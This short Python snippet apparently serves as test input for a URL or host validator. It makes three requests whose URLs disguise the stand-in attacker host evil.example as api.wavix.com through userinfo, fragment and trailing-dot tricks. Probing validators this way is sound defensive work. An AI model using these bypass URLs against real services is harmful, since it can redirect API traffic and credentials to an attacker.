import requests

requests.get("https://api.wavix.com@evil.example/v1/cdrs?appid=1")
requests.get("https://evil.example/#https://api.wavix.com/v1/numbers")
requests.get("https://api.wavix.com.:443@evil.example/?appid=1")
